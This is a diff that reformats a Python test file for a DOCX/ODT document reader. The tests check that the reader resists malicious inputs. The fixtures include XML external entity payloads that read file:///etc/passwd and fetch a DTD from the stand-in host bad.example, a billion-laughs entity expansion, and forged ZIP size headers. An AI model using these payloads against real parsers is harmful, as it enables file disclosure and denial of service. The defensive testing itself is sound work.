@@ -20,14 +20,18 @@ MOST_BYTES = 64 << 20
 
 GOOD = docx(p("Recommendation 1") + p("Mend the bridge.") + p("Accepted."))
 GOOD_ODT = odt("<text:p>We accept it.</text:p>")
-LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + "]>"
+LAUGHS = (
+    '<!DOCTYPE x [<!ENTITY a "ha">'
+    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
+    + "]>"
+)
 BLOWUP = f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50_000}">]>'
 OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
 PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://bad.example/x.dtd"> %a;]>'
 
 
 def document_with(prolog: str, entity: str) -> bytes:
-    body = f'<w:document {W}><w:body><w:p><w:r><w:t>{entity * 50}</w:t></w:r></w:p></w:body></w:document>'
+    body = f"<w:document {W}><w:body><w:p><w:r><w:t>{entity * 50}</w:t></w:r></w:p></w:body></w:document>"
     return packed({"[Content_Types].xml": TYPES, "word/document.xml": prolog + body})
 
 
@@ -38,7 +42,9 @@ def lying(size: int, packed_bytes: bytes) -> bytes:
         offset = archive.getinfo("word/document.xml").header_offset
     name = b"word/document.xml"
     head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed_bytes), size, len(name), 0)
-    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed_bytes), size, len(name), 0, 0, 0, 0, 0, offset)
+    central = struct.pack(
+        "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed_bytes), size, len(name), 0, 0, 0, 0, 0, offset
+    )
     first = data[:offset]
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         start = archive.start_dir
@@ -154,7 +160,13 @@ def test_styles_and_lists_that_refer_to_themselves():
     numbering = f"""<w:numbering {W}><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="A"/></w:abstractNum>
     <w:abstractNum w:abstractNumId="2"><w:lvl w:ilvl="0"><w:lvlText w:val="%9%9%9%1"/><w:numFmt w:val="lowerLetter"/><w:start w:val="999999999999"/></w:lvl></w:abstractNum>
     <w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="2"/></w:num></w:numbering>"""
-    body = p("one", '<w:pStyle w:val="A"/>') + p("two", '<w:pStyle w:val="C"/>') + listed("three", 2) + listed("four", 77, 0) + listed("five", 2, 4)
+    body = (
+        p("one", '<w:pStyle w:val="A"/>')
+        + p("two", '<w:pStyle w:val="C"/>')
+        + listed("three", 2)
+        + listed("four", 77, 0)
+        + listed("five", 2, 4)
+    )
     document = recsim.read(docx(body, styles=styles, numbering=numbering))
     assert [text.split()[-1] for _, text in told(document)] == ["one", "two", "three", "four", "five"]
     loop = '<style:style style:name="A" style:family="paragraph" style:parent-style-name="B"/><style:style style:name="B" style:family="paragraph" style:parent-style-name="A"/>'
@@ -167,7 +179,9 @@ def test_repetitions_that_are_only_claimed_cost_nothing():
     document = recsim.read(odt(body))
     assert document.text.startswith("a b")
     assert len(document.text) < 500
-    wide = recsim.read(docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999"/></w:tcPr>' + p("x") + "</w:tc></w:tr></w:tbl>"))
+    wide = recsim.read(
+        docx('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999"/></w:tcPr>' + p("x") + "</w:tc></w:tr></w:tbl>")
+    )
     assert len(wide.blocks) == 1 and len(wide.blocks[0].cells) <= 40
 
 
